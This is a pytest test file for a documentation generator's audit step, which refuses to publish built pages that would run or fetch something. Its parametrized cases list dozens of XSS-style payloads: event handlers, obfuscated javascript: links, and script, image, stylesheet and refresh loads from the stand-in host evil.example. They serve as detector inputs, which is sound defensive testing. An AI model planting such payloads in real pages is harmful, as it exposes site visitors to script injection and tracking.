"""Whatever slipped through engine and extensions, a page that would run or fetch something is not published."""

from __future__ import annotations

from pathlib import Path, PurePosixPath

import pytest

from generator.building.audit import audit
from generator.building.engines import MKDOCS, ZENSICAL
from generator.building.faults import Finding
from generator.model import Tree

STAGED: Tree = {
    PurePosixPath("docs/a/page.md"): b'---\ntitle: "t"\norigin: course/a/01-page.fr.md\n---\ntext',
    PurePosixPath("docs/index.md"): b"---\norigin: course/course.yml\n---\ntext",
    PurePosixPath("theme/main.html"): b"<script>var ours={{ 'x' | url }};go()</script>",
}


def found(
    tmp_path: Path, html: str, name: str = "a/page/index.html", templates: Path | None = None
) -> tuple[Finding, ...]:
    page = tmp_path / name
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_text(html, encoding="utf-8")
    return audit(tmp_path, STAGED, templates)


@pytest.mark.parametrize(
    "html",
    [
        "<script>steal()</script>",
        "<SCRIPT>steal()</SCRIPT>",
        "<script>steal()",
        '<script type="module">steal()</script>',
        '<script type="text/javascript">steal()</script>',
        "<script >var ours=1;go();steal()</script>",
        "<script src=//evil.example/x.js></script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script src=" https://evil.example/x.js"></script>',
        '<script src="https&colon;//evil.example/x.js"></script>',
        '<script src="data:text/javascript,steal()"></script>',
        "<img src=x onerror=steal()>",
        "<img/src='x'/onerror=steal()>",
        "<img src='x' OnError='steal()'>",
        "<b ' onclick=steal()>",
        "<b \"' onclick=steal()>text",
        '<p title="a > b" onclick="steal()">',
        "<svg><animate onbegin=steal() /></svg>",
        "<a href='javascript:steal()'>x</a>",
        "<a href='java\nscript:steal()'>x</a>",
        "<a href='jav&#x61;script:steal()'>x</a>",
        "<a href='&#1;javascript:steal()'>x</a>",
        "<form action='javascript:steal()'>",
        "<svg><a xlink:href='javascript:steal()'>x</a></svg>",
        "<a href='data:text/html,x'>x</a>",
        "<iframe srcdoc='x'></iframe>",
        "<iframe src='https://evil.example'></iframe>",
        "<img src='//evil.example/pixel.gif'>",
        "<img src='\\\\evil.example/pixel.gif'>",
        "<img srcset='a.png 1x, https://evil.example/b.png 2x'>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<link rel='shortcut icon' href=https://evil.example/a.ico>",
        "<link rel=preload href=https://evil.example/a>",
        "<video poster=https://evil.example/a>",
        "<object data=https://evil.example/a>",
        "<base href=https://evil.example/>",
        "<svg><image href=https://evil.example/a /></svg>",
        "<p style=\"background:url('https://evil.example/a')\">",
        "<style>p { background: url(https://evil.example/a) }</style>",
        "<style>@import 'https://evil.example/a.css';</style>",
        "<meta http-equiv=refresh content='0;https://evil.example'>",
    ],
)
def test_a_planted_thing_is_found_and_its_author_named(tmp_path: Path, html: str) -> None:
    findings = found(tmp_path, f"<html><body><p>text</p>{html}</body></html>", templates=MKDOCS.templates)
    assert findings, html
    assert findings[0].page == "a/page/index.html"
    assert findings[0].author_file == "course/a/01-page.fr.md"


@pytest.mark.parametrize(
    "html",
    [
        "<a href='https://example.org/'>a source</a>",
        "<a href='mailto:a@example.org'>write</a>",
        "<p>An onclick=handler and a javascript: address, told in words.</p>",
        "<code>&lt;script&gt;steal()&lt;/script&gt; onerror=x</code>",
        "<script src='../assets/bundle.js'></script>",
        '<script type="application/json">{"a": "<img onerror=1>"}</script>',
        "<script>var ours=../assets/x.js;go()</script>",
        "<img src='data:image/png;base64,AA'>",
        "<link rel=canonical href=https://example.org/>",
        "<link rel=stylesheet href=../a.css>",
        "<form action=https://example.org/>",
        "<p style='color: red'>",
    ],
)
def test_ordinary_pages_pass(tmp_path: Path, html: str) -> None:
    assert not found(tmp_path, html)


@pytest.mark.parametrize("engine", [MKDOCS, ZENSICAL], ids=lambda e: e.name)
def test_the_themes_own_scripts_pass_and_a_longer_one_does_not(tmp_path: Path, engine: object) -> None:
    templates = engine.templates
    text = (templates / "partials/javascripts/base.html").read_text(encoding="utf-8")
    filled = text.replace("{{ config.extra.scope | d(base_url) }}", "../..")
    filled = filled.replace("{{ config.extra.scope | d(base_url, true) }}", "../..")
    filled = filled[filled.index("<script>") :]
    assert "{{" not in filled
    assert not found(tmp_path, filled, templates=templates)
    assert found(tmp_path, filled.replace("</script>", ";steal()</script>"), templates=templates)
    assert found(tmp_path, filled.replace('"../.."', '"");steal("'), templates=templates)


def test_styles_and_pictures_are_looked_at_too(tmp_path: Path) -> None:
    assert found(tmp_path / "a", "@font-face{src:url(https://evil.example/f.woff2)}", "x.css")
    assert found(tmp_path / "b", "<svg onload='steal()'/>", "x.svg")
    assert not found(tmp_path / "c", "@font-face{src:url(../f.woff2)}", "x.css")


def test_a_thing_on_every_page_is_told_once_and_its_author_found_by_its_words(tmp_path: Path) -> None:
    staged = {
        **STAGED,
        PurePosixPath("docs/b.md"): b"---\ntitle: <img onload=steal()>\norigin: course/b.md\n---\n",
    }
    for n in range(3):
        (tmp_path / f"{n}.html").write_text("<nav><img onload=steal()></nav>")
    findings = audit(tmp_path, staged, None)
    assert [(f.page, f.author_file) for f in findings] == [("0.html", "course/b.md")]


def test_many_pages_cost_little(tmp_path: Path) -> None:
    body = "".join(
        f'<li class="md-nav__item"><a href="../l{n}/" title="x">Lesson {n}</a></li>' for n in range(500)
    )
    for n in range(100):
        (tmp_path / f"{n}.html").write_text(f"<html>{body}<p>{n}</p></html>")
    import time

    began = time.process_time()
    assert not audit(tmp_path, STAGED, None)
    assert time.process_time() - began < 3.0
